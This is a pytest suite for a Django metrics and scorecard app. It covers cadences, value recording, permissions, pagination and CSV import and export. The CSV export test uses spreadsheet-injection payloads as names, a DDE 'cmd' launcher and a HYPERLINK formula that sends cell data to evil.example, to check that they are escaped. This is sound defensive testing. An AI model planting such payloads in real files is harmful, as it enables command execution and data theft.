"""Metrics: cadence by level, one value per period, on/off target, scorecard, goals, CSV."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, transaction
from django.urls import reverse
from django.utils import timezone

from processes.models import Metric, MetricValue
from processes.periods import Cadence, code, label, parse, period_start, previous_starts
from processes.scorecard import build_rows, called_out
from tests.factories import HTMX, ProcessFactory, SystemFactory, UserFactory

pytestmark = pytest.mark.django_db


def this_week() -> datetime.date:
    return period_start(Cadence.WEEKLY, timezone.localdate())


def weekly(process=None, **fields) -> Metric:
    defaults = {"name": "Videos published", "target": 1, "cadence": Cadence.WEEKLY}
    return Metric.objects.create(process=process or ProcessFactory(), **{**defaults, **fields})


# Periods


def test_periods_start_on_monday_the_first_and_new_year():
    day = datetime.date(2026, 11, 26)  # a Thursday
    assert period_start(Cadence.WEEKLY, day) == datetime.date(2026, 11, 23)
    assert period_start(Cadence.MONTHLY, day) == datetime.date(2026, 11, 1)
    assert period_start(Cadence.ANNUAL, day) == datetime.date(2026, 1, 1)
    assert label(Cadence.WEEKLY, datetime.date(2026, 11, 23)) == "W48 2026"
    assert code(Cadence.WEEKLY, datetime.date(2026, 11, 23)) == "2026-W48"
    assert parse(Cadence.WEEKLY, "2026-W48") == datetime.date(2026, 11, 23)
    assert parse(Cadence.MONTHLY, "2026-11") == datetime.date(2026, 11, 1)
    # ISO weeks cross years: 2026-W53 exists, and week 1 of 2027 starts in 2027.
    assert previous_starts(Cadence.WEEKLY, datetime.date(2027, 1, 4), 2) == [
        datetime.date(2026, 12, 28),
        datetime.date(2027, 1, 4),
    ]
    for bad in ["2026-W60", "W48", "2026-13", "next week"]:
        with pytest.raises(ValueError):
            parse(Cadence.WEEKLY if "W" in bad else Cadence.MONTHLY, bad)


# Cadence by level


def test_a_process_metric_must_be_weekly_and_a_system_metric_must_not():
    process, system = ProcessFactory(), SystemFactory()
    wrong = [
        Metric(process=process, name="Revenue", target=1, cadence=Cadence.MONTHLY),
        Metric(system=system, name="Videos", target=1, cadence=Cadence.WEEKLY),
    ]
    for metric in wrong:
        with pytest.raises(ValidationError) as excinfo:
            metric.full_clean()
        assert "cadence" in excinfo.value.message_dict or "__all__" in excinfo.value.message_dict
        with pytest.raises(IntegrityError), transaction.atomic():
            metric.save()
    # Both levels at once, or neither, is refused by the database too.
    with pytest.raises(IntegrityError), transaction.atomic():
        Metric.objects.create(process=process, system=system, name="X", target=1, cadence="weekly")


def test_the_metric_form_offers_only_the_cadences_of_its_level(founder_client):
    process, system = ProcessFactory(), SystemFactory()
    page = founder_client.get(f"{reverse('metrics:new')}?process={process.pk}").content.decode()
    assert 'value="weekly"' in page and 'value="monthly"' not in page
    response = founder_client.post(
        f"{reverse('metrics:new')}?process={process.pk}",
        {
            "name": "Revenue",
            "unit": "€",
            "owner": "",
            "target": "100",
            "direction": "higher",
            "cadence": "monthly",
        },
    )
    assert "A process&#x27;s metrics are weekly" in response.content.decode()
    assert not Metric.objects.exists()
    founder_client.post(
        f"{reverse('metrics:new')}?system={system.pk}",
        {
            "name": "Annual revenue",
            "unit": "€",
            "owner": "",
            "target": "480000",
            "direction": "higher",
            "cadence": "annual",
        },
    )
    assert Metric.objects.get().system == system


# Values


def test_one_value_per_metric_and_period():
    metric = weekly()
    MetricValue.objects.create(metric=metric, period=this_week(), value=1)
    with pytest.raises(IntegrityError), transaction.atomic():
        MetricValue.objects.create(metric=metric, period=this_week(), value=2)


def test_a_value_must_be_for_the_start_of_a_period():
    value = MetricValue(metric=weekly(), period=this_week() + datetime.timedelta(days=1), value=1)
    with pytest.raises(ValidationError):
        value.full_clean()


@pytest.mark.parametrize(
    ("direction", "target", "value", "on"),
    [
        ("higher", 10, 10, True),
        ("higher", 10, 9, False),
        ("lower", 0.5, 0.5, True),
        ("lower", 0.5, 0.6, False),
    ],
)
def test_on_target_in_both_directions(direction, target, value, on):
    metric = weekly(direction=direction, target=Decimal(str(target)))
    assert metric.on_target(Decimal(str(value))) is on


def test_three_weeks_off_target_running_is_called_out(member_client):
    metric = weekly(target=120)
    starts = previous_starts(Cadence.WEEKLY, this_week(), 5)
    for start, value in zip(starts[:4], [130, 110, 100, 90], strict=True):  # this week not yet
        MetricValue.objects.create(metric=metric, period=start, value=value)
    [row] = build_rows(Metric.objects.all(), UserFactory(), 13)
    assert row.off_target_run == 3 and row.called_out
    html = member_client.get(reverse("metrics:scorecard")).content.decode()
    assert "Off target three weeks running" in html and "3 weeks off target" in html
    # Recording a value refreshes the call-out alone, not the whole scorecard.
    part = member_client.get(reverse("metrics:scorecard"), {"part": "called-out"}, **HTMX).text
    assert part.strip().startswith('<div id="called-out"') and "Off target three weeks" in part
    assert "<table" not in part


def test_the_call_out_counts_every_metric_off_target_and_lists_the_first_ten(member_client):
    starts = previous_starts(Cadence.WEEKLY, this_week(), 4)[:3]  # this week not yet recorded
    for n in range(12):  # off target three weeks running, half of them "lower is better"
        lower = n % 2 == 1
        metric = weekly(name=f"Metric {n:02}", target=10, direction="lower" if lower else "higher")
        for start in starts:
            MetricValue.objects.create(metric=metric, period=start, value=20 if lower else 5)
    almost = weekly(name="Almost", target=10)  # off target twice, then on target
    for start, value in zip(starts, [5, 5, 15], strict=True):
        MetricValue.objects.create(metric=almost, period=start, value=value)
    found = called_out(Metric.objects.all())
    assert found.count == 12
    assert [row.metric.name for row in found.rows] == [f"Metric {n:02}" for n in range(10)]
    html = member_client.get(reverse("metrics:scorecard")).content.decode()
    assert "Off target three weeks running: 12 metrics, the first 10 below" in html
    assert "Almost</a>" not in html.split('id="called-out"')[1].split("</div>")[0]


def test_the_call_out_and_the_row_agree_on_how_long_a_metric_has_been_off_target(
    member_client,
):
    metric = weekly(name="Opt-in subscribers", target=120)
    for start in previous_starts(Cadence.WEEKLY, this_week(), 6)[1:]:  # five weeks, this one too
        MetricValue.objects.create(metric=metric, period=start, value=100)
    [row] = called_out(Metric.objects.all()).rows
    assert row.off_target_run == 5
    html = member_client.get(reverse("metrics:scorecard")).text
    assert 'Opt-in subscribers</a> <span class="muted">· ' in html and "· 5 weeks</span>" in html
    assert "5 weeks off target" in html


def test_the_call_out_picks_exactly_the_metrics_whose_rows_say_so():
    """The call-out asks the database about the last few weeks; each row counts its run in
    Python over thirteen: every pattern of on, off and not recorded over the last five weeks,
    in both directions, must agree."""
    import itertools

    starts = previous_starts(Cadence.WEEKLY, this_week(), 5)
    value = {"higher": {"on": 15, "off": 5}, "lower": {"on": 5, "off": 15}}
    for n, (direction, weeks) in enumerate(
        itertools.product(["higher", "lower"], itertools.product(["on", "off", None], repeat=5))
    ):
        metric = weekly(name=f"Metric {n:03}", target=10, direction=direction)
        MetricValue.objects.bulk_create(
            MetricValue(metric=metric, period=start, value=value[direction][week])
            for start, week in zip(starts, weeks, strict=True)
            if week
        )
    expected = {
        row.metric.pk
        for row in build_rows(Metric.objects.all(), UserFactory(), 13)
        if row.called_out
    }
    found = called_out(Metric.objects.all(), shown=1000)
    assert {row.metric.pk for row in found.rows} == expected and found.count == len(expected)
    assert 0 < len(expected) < Metric.objects.count()


# Recording values


def record(client, metric, value, period=None, **headers):
    data = {"period": period or code(Cadence.WEEKLY, this_week()), "value": value}
    return client.post(reverse("metrics:record", args=[metric.pk]), data, **headers)


def test_the_owner_records_this_weeks_value_inline(member_client, member):
    metric = weekly(owner=member)
    response = record(member_client, metric, "1", **HTMX)
    html = response.content.decode()
    assert response.status_code == 200 and f'id="metric-{metric.pk}"' in html
    assert "metricRecorded" in response["HX-Trigger"]  # the call-out refreshes
    assert MetricValue.objects.get(metric=metric, period=this_week()).value == 1
    record(member_client, metric, "2", **HTMX)  # a correction replaces the value
    assert MetricValue.objects.get(metric=metric).value == 2


@pytest.mark.parametrize(
    ("value", "period", "message"),
    [
        ("two", None, "is not a number"),
        ("", None, "Enter a number."),
        ("3", "next", "has not started yet"),
        ("3", "2026-W99", "not a real"),
    ],
)
def test_invalid_values_get_a_clear_message_and_store_nothing(
    member_client, member, value, period, message
):
    metric = weekly(owner=member)
    if period == "next":
        period = code(Cadence.WEEKLY, this_week() + datetime.timedelta(days=7))
    response = record(member_client, metric, value, period, **HTMX)
    html = response.content.decode()
    assert message in html and "HX-Trigger" not in response  # nothing recorded, nothing to redo
    assert f'value="{value}"' in html  # what was typed stays in the box
    assert not MetricValue.objects.exists()


def test_only_the_owner_and_founders_record_values(member_client, founder_client):
    metric = weekly(owner=UserFactory())
    assert record(member_client, metric, "1").status_code == 403
    assert record(founder_client, metric, "1").status_code == 302
    assert MetricValue.objects.count() == 1
    # Team members read the scorecard but get no input for metrics that are not theirs.
    html = member_client.get(reverse("metrics:scorecard")).content.decode()
    assert metric.name in html and f'id="value-{metric.pk}"' not in html


# Pages


def test_the_scorecard_runs_a_fixed_number_of_queries_with_100_metrics(
    member_client, django_assert_max_num_queries
):
    processes = [ProcessFactory() for _ in range(10)]
    weeks = previous_starts(Cadence.WEEKLY, this_week(), 13)
    metrics = Metric.objects.bulk_create(
        Metric(process=processes[i % 10], name=f"Metric {i}", target=5, cadence="weekly")
        for i in range(100)
    )
    MetricValue.objects.bulk_create(
        MetricValue(metric=m, period=w, value=i % 9) for m in metrics for i, w in enumerate(weeks)
    )
    # One of them asks whether the team member owns a metric (and so may import values); one
    # counts the unread notifications (the header's bell).
    with django_assert_max_num_queries(16):
        response = member_client.get(reverse("metrics:scorecard"))
    # Twenty metrics a page, thirteen weeks each.
    html = response.content.decode()
    assert html.count('<td class="cell') == 20 * 13 and "page 1 of 5" in html
    assert 'aria-label="Pages of the scorecard"' in html and 'aria-label="Page 5"' in html
    with django_assert_max_num_queries(16):
        last = member_client.get(reverse("metrics:scorecard"), {"page": 5}, **HTMX)
    assert last.content.decode().count('<td class="cell') == 20 * 13
    assert 'aria-current="page" aria-label="Page 5, this page"' in last.content.decode()
    assert "Next" not in last.content.decode() and 'rel="prev" href="?page=4"' in last.text


def test_the_scorecards_pages_keep_the_filter_and_say_when_a_page_is_not_there(member_client):
    system = SystemFactory(name="Lead generation")
    process = ProcessFactory(system=system)
    for n in range(25):
        weekly(process=process, name=f"Metric {n:02}")
    weekly(name="Elsewhere")
    html = member_client.get(reverse("metrics:scorecard"), {"system": system.pk, "page": 2}).text
    assert "Metric 24" in html and "Metric 00" not in html and "Elsewhere" not in html
    assert f'href="?system={system.pk}&amp;page=1"' in html
    for asked, shown in (("7", "Metric 24"), ("x", "Metric 00"), ("-1", "Metric 24")):
        part = member_client.get(
            reverse("metrics:scorecard"), {"system": system.pk, "page": asked}, **HTMX
        ).text
        assert f"There is no page “{asked}”" in part and shown in part


def test_the_system_page_shows_its_numbers_with_a_trend_and_the_weekly_rollup(member_client):
    system = SystemFactory(name="Revenue generation")
    revenue = Metric.objects.create(
        system=system, name="Monthly revenue", unit="€", target=40000, cadence="monthly"
    )
    today = timezone.localdate()
    for start, value in zip(
        previous_starts("monthly", period_start("monthly", today), 3),
        [30000, 35000, 41000],
        strict=True,
    ):
        MetricValue.objects.create(metric=revenue, period=start, value=value)
    on = weekly(process=ProcessFactory(system=system), target=1)
    MetricValue.objects.create(metric=on, period=this_week(), value=1)
    html = member_client.get(system.get_absolute_url()).content.decode()
    assert "Monthly revenue" in html and "41,000" in html and "on target" in html
    assert '<svg class="sparkline"' in html and "target 40000" in html
    assert "1 of 1</strong> weekly process metric recorded this week is on target" in html
    # One off target this week, one recorded last week only, one in another system: counted
    # in all, among those recorded, and not at all.
    process = ProcessFactory(system=system)
    off = weekly(process=process, name="Calls made", target=10)
    MetricValue.objects.create(metric=off, period=this_week(), value=4)
    late = weekly(process=process, name="Posts written", target=2)
    last_week = this_week() - datetime.timedelta(days=7)
    MetricValue.objects.create(metric=late, period=last_week, value=2)
    MetricValue.objects.create(metric=weekly(), period=this_week(), value=1)
    html = member_client.get(system.get_absolute_url()).content.decode()
    rollup = "1 of 2</strong> weekly process metrics recorded this week are on target"
    assert rollup + ' <span class="muted">(3 in all)</span>' in html


def test_the_goals_page_shows_annual_targets_down_the_tree(member_client):
    wealth = SystemFactory(name="Wealth generation")
    revenue = SystemFactory(name="Revenue generation", parent=wealth)
    goal = Metric.objects.create(
        system=revenue, name="Annual revenue", target=480000, cadence="annual"
    )
    MetricValue.objects.create(
        metric=goal, period=period_start("annual", timezone.localdate()), value=436000
    )
    html = member_client.get(reverse("metrics:goals")).content.decode()
    assert html.index("Wealth generation") < html.index("Revenue generation")
    assert "Annual revenue" in html and "436,000" in html and "off target" in html


def test_the_goals_page_goes_in_pages_of_whole_top_level_systems(member_client, monkeypatch):
    monkeypatch.setattr("processes.metric_views.GOAL_SYSTEMS_PER_PAGE", 4)
    tops = [SystemFactory(name=f"Top {n}") for n in range(3)]
    for top in tops:  # three systems in each tree
        SystemFactory(
            name=f"{top.name} child", parent=SystemFactory(name=f"{top.name} mid", parent=top)
        )
    goal = Metric.objects.create(system=tops[2], name="Annual leads", target=100, cadence="annual")
    MetricValue.objects.create(
        metric=goal, period=period_start("annual", timezone.localdate()), value=120
    )
    first = member_client.get(reverse("metrics:goals")).text.split('<main id="main"')[1]
    assert "Top 0 mid" in first and "Top 0 child" in first and "Top 1" not in first
    assert 'aria-label="Pages of goals"' in first and 'aria-label="Page 3"' in first
    assert 'aria-current="page"' in first and 'href="?page=2"' in first and "Next" in first
    third = member_client.get(reverse("metrics:goals"), {"page": 3}, **HTMX).text
    assert "Top 2 child" in third and "Top 0" not in third and "<html" not in third
    assert "Annual leads" in third and "120" in third and "on target" in third
    # Nested as the tree: the child's list inside the middle system's item, inside the top's.
    assert third.index("Top 2</a></h2>") < third.index("Top 2 mid</a></h3>")
    assert third.index("Top 2 mid</a></h3>") < third.index("Top 2 child</a></h4>")
    # A page out of range shows the last one, and not a number the first; either says so.
    for asked, shown in (("9", "Top 2 child"), ("two", "Top 0 child")):
        html = member_client.get(reverse("metrics:goals"), {"page": asked}, **HTMX).text
        assert f"There is no page “{asked}”" in html and shown in html


# CSV


def upload(client, text: str):
    file = SimpleUploadedFile("values.csv", text.encode(), content_type="text/csv")
    return client.post(reverse("metrics:import"), {"file": file})


def test_csv_export_and_import_round_trip(founder_client):
    metric = weekly(name="Videos published")
    for i, start in enumerate(previous_starts(Cadence.WEEKLY, this_week(), 3)):
        MetricValue.objects.create(metric=metric, period=start, value=i)
    exported = founder_client.get(reverse("metrics:export")).content
    MetricValue.objects.all().delete()
    response = upload(founder_client, exported.decode())
    assert "Stored 3 values" in response.content.decode()
    again = founder_client.get(reverse("metrics:export")).content
    assert again == exported


def test_a_bad_row_is_reported_with_its_line_and_nothing_is_stored(founder_client):
    metric = weekly(name="Videos published")
    week = code(Cadence.WEEKLY, this_week())
    text = io.StringIO()
    text.write("metric_id,metric,period,value\n")
    text.write(f"{metric.pk},Videos published,{week},1\n")
    text.write(f"{metric.pk},Videos published,2026-W99,1\n")
    text.write(f"999999,Nothing,{week},1\n")
    text.write(f"{metric.pk},Videos published,{week},lots\n")
    html = upload(founder_client, text.getvalue()).content.decode()
    assert "Nothing was stored" in html
    assert "Line 3:" in html and "Line 4:" in html and "Line 5:" in html
    assert "Line 2:" not in html
    assert not MetricValue.objects.exists()


def test_a_file_that_is_not_a_values_csv_is_refused(founder_client):
    assert "missing: metric_id" in upload(founder_client, "name,score\nx,1\n").content.decode()
    response = founder_client.post(
        reverse("metrics:import"),
        {"file": SimpleUploadedFile("x.csv", b"\xff\xfe\x00bad", content_type="text/csv")},
    )
    assert "not UTF-8" in response.content.decode()


def test_team_members_who_own_no_metric_export_but_cannot_import(member_client):
    weekly(name="Videos published")  # someone else's
    assert member_client.get(reverse("metrics:export")).status_code == 200
    assert upload(member_client, "metric_id,period,value\n").status_code == 403
    assert "Import CSV" not in member_client.get(reverse("metrics:scorecard")).text


def test_a_team_member_imports_the_values_of_the_metrics_they_own(member_client, member):
    mine = weekly(name="Videos published", owner=member)
    theirs = weekly(name="Subscribers gained")
    scorecard = member_client.get(reverse("metrics:scorecard")).text
    assert f'href="{reverse("metrics:import")}"' in scorecard
    page = member_client.get(reverse("metrics:import")).text
    assert "Videos published" in page and f"<code>metric_id</code> {mine.pk}" in page
    assert "Subscribers" not in page

    week = code(Cadence.WEEKLY, this_week())
    html = upload(member_client, f"metric_id,period,value\n{mine.pk},{week},4\n").text
    assert "Stored 1 value" in html
    assert MetricValue.objects.get(metric=mine).value == 4

    refused = upload(member_client, f"metric_id,period,value\n{theirs.pk},{week},9\n").text
    assert "You may not record values of “Subscribers gained”" in refused
    assert not MetricValue.objects.filter(metric=theirs).exists()


def test_the_csv_export_writes_names_that_look_like_formulas_as_text(founder_client):
    process = ProcessFactory(name="+cmd|' /C calc'!A0")
    metric = weekly(name='=HYPERLINK("http://evil.example/?"&A1,"Click")', process=process)
    for name in ("@SUM(1+1)", "-2+3", "\tTabbed", "'+1 trials"):
        MetricValue.objects.create(
            metric=weekly(name=name, process=process), period=this_week(), value=-5
        )
    MetricValue.objects.create(metric=metric, period=this_week(), value=-5)
    exported = founder_client.get(reverse("metrics:export")).content.decode()
    rows = list(csv.reader(io.StringIO(exported)))[1:]
    for row in rows:
        assert row[1].startswith("'") and row[2].startswith("'"), row
        assert row[5] == "-5.00"  # a number stays a number
    # And the file imports again as it was written.
    MetricValue.objects.all().delete()
    assert "Stored 5 values" in upload(founder_client, exported).text
    assert MetricValue.objects.count() == 5


def test_a_decimal_comma_is_refused_rather_than_misread(member_client, member):
    metric = weekly(owner=member)
    html = record(member_client, metric, "1,5", **HTMX).content.decode()
    assert "write decimals with a point" in html
    assert not MetricValue.objects.exists()
    record(member_client, metric, "1,500", **HTMX)
    assert MetricValue.objects.get().value == 1500


@pytest.mark.parametrize("value", ["999999999999.995", "1e999999999999", "-1e12"])
def test_numbers_too_large_for_a_value_are_refused_not_stored(member_client, member, value):
    metric = weekly(owner=member)
    response = record(member_client, metric, value, **HTMX)
    assert response.status_code == 200 and "too large" in response.content.decode()
    assert not MetricValue.objects.exists()


def test_a_bad_value_without_javascript_says_what_was_wrong(member_client, member):
    metric = weekly(owner=member)
    html = record(member_client, metric, "lots").content.decode()
    assert "nothing was stored" in html and "is not a number" in html and "lots" in html


def test_a_csv_file_that_is_not_csv_is_reported_not_a_crash(founder_client):
    huge = "metric_id,period,value\n1,2026-W01," + "9" * 200_000 + "\n"
    assert "not valid CSV" in upload(founder_client, huge).content.decode()


def test_a_person_whose_role_was_taken_away_no_longer_records_what_they_own(outsider, client):
    metric = weekly(name="Videos published", owner=outsider)
    client.force_login(outsider)
    week = code(Cadence.WEEKLY, this_week())
    assert client.get(reverse("metrics:import")).status_code == 403
    assert upload(client, f"metric_id,period,value\n{metric.pk},{week},4\n").status_code == 403
    assert record(client, metric, "4").status_code == 403
    assert not MetricValue.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_the_call_out_is_kept_until_a_value_changes_it():
    """Committed for real (a transactional test): the call-out is kept only outside a
    transaction, in memory under the map's and the metrics' stamps: a value recorded changes
    it."""
    from django.contrib.auth.models import Group, Permission
    from django.db import connection
    from django.test import Client
    from django.test.utils import CaptureQueriesContext

    from opsmodel.roles import TEAM_MEMBERS, sync_roles

    sync_roles(Group, Permission)
    client = Client()
    client.force_login(UserFactory(roles=[TEAM_MEMBERS]))
    metric = weekly(name="Opt-in subscribers", target=120)
    starts = previous_starts(Cadence.WEEKLY, this_week(), 4)[:3]  # this week not yet
    for start in starts[:2]:
        MetricValue.objects.create(metric=metric, period=start, value=100)

    def call_out() -> tuple[str, int]:
        url = reverse("metrics:scorecard")
        with CaptureQueriesContext(connection) as captured:
            html = client.get(url, {"part": "called-out"}, **HTMX).text
        return html, len(captured)

    first, drawn = call_out()
    assert "Off target three weeks" not in first
    again, kept = call_out()
    assert again == first and kept < drawn  # the same, without reading the values again
    MetricValue.objects.create(metric=metric, period=starts[2], value=100)  # a third week off
    html, _ = call_out()
    assert "Off target three weeks running" in html and "Opt-in subscribers</a>" in html


def test_the_scorecard_groups_each_processs_metrics_under_a_row_that_links_it(member_client):
    import re

    first = ProcessFactory(name="Publish videos", system=SystemFactory(name="Audience"))
    second = ProcessFactory(name="Send <invoices>", system=SystemFactory(name="Revenue"))
    weekly(process=first, name="Videos published")
    weekly(process=first, name="Views")
    weekly(process=second, name="Invoices sent")
    html = member_client.get(reverse("metrics:scorecard")).text
    groups = re.findall(r"<tbody>(.*?)</tbody>", html, re.S)
    heads = [re.search(r'<th scope="rowgroup" colspan="(\d+)">(.*?)</th>', g, re.S) for g in groups]
    shown = {
        re.search(r">([^<>]+)</a>", head[2]).group(1): group
        for head, group in zip(heads, groups, strict=True)
    }
    assert set(shown) == {"Publish videos", "Send &lt;invoices&gt;"}
    assert all(head[1] == "14" for head in heads)  # the name, and thirteen weeks
    assert "Videos published" in shown["Publish videos"] and "Views" in shown["Publish videos"]
    assert "Invoices sent" in shown["Send &lt;invoices&gt;"]
    assert "Invoices sent" not in shown["Publish videos"]
    assert f'href="{first.get_absolute_url()}" data-hx-get="{first.get_absolute_url()}"' in html
    assert '<span class="eyebrow level-system">Revenue</span>' in shown["Send &lt;invoices&gt;"]


def test_the_head_of_weeks_names_each_week_and_the_day_it_starts(member_client):
    import re

    weekly(name="Videos published")
    html = member_client.get(reverse("metrics:scorecard")).text
    head = html[html.index("<thead>") : html.index("</thead>")]
    weeks = previous_starts(Cadence.WEEKLY, this_week(), 13)
    cells = re.findall(
        r"<th scope=\"col\"( class=\"cell-current\")?><abbr title=\"(.*?)\">W(\d+)</abbr>"
        r"<span class=\"week-start\">(.*?)</span></th>",
        head,
    )
    assert [int(number) for _current, _title, number, _start in cells] == [
        w.isocalendar().week for w in weeks
    ]
    assert cells[-1][0] and cells[-1][3] == "this week" and not any(c[0] for c in cells[:-1])
    first = weeks[0]
    assert cells[0][3] == f"{first.day} {first:%b}"
    assert cells[0][1].endswith(f"the week of {first.day} {first:%b} {first.year}")
    # The same head on a process's page (drawn once for the same weeks).
    metric = Metric.objects.get()
    page = member_client.get(metric.process.get_absolute_url()).text
    assert head in page


def test_a_systems_metric_shows_as_a_card_its_owner_records_on_the_systems_page(
    member_client, member, client
):
    system = SystemFactory(name="Revenue")
    month = period_start(Cadence.MONTHLY, timezone.localdate())
    metric = Metric.objects.create(
        system=system, name="Leads & calls", unit="£", target=10, cadence=Cadence.MONTHLY,
        owner=member,
    )  # fmt: skip
    last_month = previous_starts(Cadence.MONTHLY, month, 2)[0]
    MetricValue.objects.create(metric=metric, period=last_month, value=Decimal("3.5"))
    html = member_client.get(system.get_absolute_url()).text
    card = html[html.index(f'id="metric-{metric.pk}"') - 40 :]
    card = card[: card.index("</li>")]
    assert 'class="metric-card off"' in card and "Leads &amp; calls" in card
    assert "<strong>3.5</strong>" in card and "target ≥ 10" in card and "off target" in card
    assert f'action="{reverse("metrics:record", args=[metric.pk])}"' in card  # their form
    assert f'<label for="value-{metric.pk}">{label(Cadence.MONTHLY, month)}</label>' in card
    # A wrong value: the card again, the value kept and the field marked.
    data = {"period": code(Cadence.MONTHLY, month), "value": "lots"}
    answer = member_client.post(reverse("metrics:record", args=[metric.pk]), data, **HTMX).text
    assert 'value="lots" aria-invalid="true"' in answer and 'role="alert"' in answer
    assert "data-autofocus" in answer and not MetricValue.objects.filter(period=month).exists()
    # Someone who does not record it sees the card without the form.
    other = UserFactory()
    from django.contrib.auth.models import Group

    from opsmodel.roles import TEAM_MEMBERS

    other.groups.add(Group.objects.get(name=TEAM_MEMBERS))
    client.force_login(other)
    theirs = client.get(system.get_absolute_url()).text
    assert f'id="metric-{metric.pk}"' in theirs and f'id="value-{metric.pk}"' not in theirs
